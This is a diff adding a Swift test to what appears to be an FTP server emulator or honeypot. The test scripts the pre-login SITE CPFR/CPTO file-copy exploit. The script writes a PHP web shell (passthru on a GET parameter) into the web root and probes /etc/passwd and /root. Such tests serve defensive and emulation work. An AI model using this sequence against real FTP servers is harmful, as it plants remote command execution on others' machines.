@@ -168,6 +168,43 @@ import Testing
       """)
   }
 
+  /// Before a login the machine's own files are there, as far as those who copy them look.
+  @Test func siteCopyBeforeALogin() {
+    let script = """
+      < 220
+      > SITE CPTO /tmp/x
+      < 503
+      > SITE CPFR /nowhere
+      < 550
+      > SITE CPFR /proc/self/cmdline
+      < 350
+      > SITE CPTO /root/x
+      < 550
+      > SITE CPFR /proc/self/cmdline
+      < 350
+      > SITE CPTO /tmp/.<?php passthru($_GET['c']);?>
+      < 250
+      > SITE CPFR /tmp/.<?php passthru($_GET['c']);?>
+      < 350
+      > SITE CPTO /var/www/html/x.php
+      < 250
+      > SITE CPFR /pub/a.txt
+      < 350
+      > SITE CPTO /tmp/a
+      < 250
+      > USER x
+      < 331
+      > PASS y
+      < 230
+      > SITE CPFR /etc/passwd
+      < 550
+      """
+    let persona = Stage.persona {
+      $0.verbsBeforeLogin.formUnion(["SITE CPFR", "SITE CPTO"])
+    }
+    Stage.play("a copy before a login", script, persona)
+  }
+
   /// What follows a login.
   private func play(_ script: String, sourceLocation: SourceLocation = #_sourceLocation) {
     Stage.play("files", Stage.login + script, sourceLocation: sourceLocation)
